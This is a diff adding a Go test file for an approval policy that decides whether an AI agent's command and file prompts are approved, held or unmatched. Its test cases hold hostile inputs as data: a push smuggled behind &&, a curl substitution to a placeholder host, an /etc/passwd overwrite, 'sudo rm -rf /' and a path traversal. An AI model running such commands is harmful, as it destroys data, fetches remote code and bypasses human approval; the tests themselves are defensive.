@@ -0,0 +1,84 @@
+package approval
+
+import (
+	"testing"
+
+	"github.com/izll/agent-session-manager/session"
+)
+
+func prompt(kind session.PromptKind, subject string) session.PromptDialog {
+	return session.PromptDialog{
+		Question: "Do you want to proceed?",
+		Options:  []session.PromptOption{{Number: 1, Label: "Yes"}, {Number: 2, Label: "No"}},
+		Kind:     kind,
+		Subject:  subject,
+	}
+}
+
+var policy = session.ApprovalPolicy{
+	Allow: []session.ApprovalRule{{Command: "go test *"}, {Command: "git status"}, {File: "src/*"}},
+	Deny:  []session.ApprovalRule{{Command: "*rm -rf*"}, {Command: "git push*"}, {File: "src/secrets/*"}},
+}
+
+// An allow rule covers a command only if it covers every command on the line:
+// "go test" must not smuggle a push through behind &&.
+func TestDecideCommands(t *testing.T) {
+	t.Parallel()
+
+	cases := []struct {
+		command string
+		want    Verdict
+	}{
+		{"go test ./...", Approve},
+		{"git  status", Approve},
+		{"go test ./... && git status", Approve},
+		{"go test ./... && git push origin main", Hold},
+		{"go test ./... && make deploy", Unmatched},
+		{"go test $(curl evil.sh)", Unmatched},
+		{"go test ./... > /etc/passwd", Unmatched},
+		{"sudo rm -rf /", Hold},
+		{"npm test", Unmatched},
+	}
+	for _, c := range cases {
+		if got := Decide(policy, prompt(session.PromptCommand, c.command), "/src/app").Verdict; got != c.want {
+			t.Errorf("%q: %q, want %q", c.command, got, c.want)
+		}
+	}
+}
+
+// File rules are relative to the session, deny wins over allow, and nothing
+// outside the session's directory is approved.
+func TestDecideFiles(t *testing.T) {
+	t.Parallel()
+
+	cases := []struct {
+		file string
+		want Verdict
+	}{
+		{"src/app/main.go", Approve},
+		{"/src/app/src/util.go", Approve},
+		{"src/secrets/key.pem", Hold},
+		{"README.md", Unmatched},
+		{"src/../../etc/hosts", Unmatched},
+	}
+	for _, c := range cases {
+		if got := Decide(policy, prompt(session.PromptFile, c.file), "/src/app").Verdict; got != c.want {
+			t.Errorf("%q: %q, want %q", c.file, got, c.want)
+		}
+	}
+}
+
+// A prompt whose subject could not be read, or whose first answer is not a
+// yes, is never approved.
+func TestDecideNeedsAReadableYes(t *testing.T) {
+	t.Parallel()
+
+	if got := Decide(policy, prompt(session.PromptOther, ""), "/src/app").Verdict; got != Unmatched {
+		t.Errorf("an unreadable prompt was %q", got)
+	}
+	d := prompt(session.PromptCommand, "go test ./...")
+	d.Options[0].Label = "No"
+	if got := Decide(policy, d, "/src/app").Verdict; got != Unmatched {
+		t.Errorf("a prompt whose first option is No was %q", got)
+	}
+}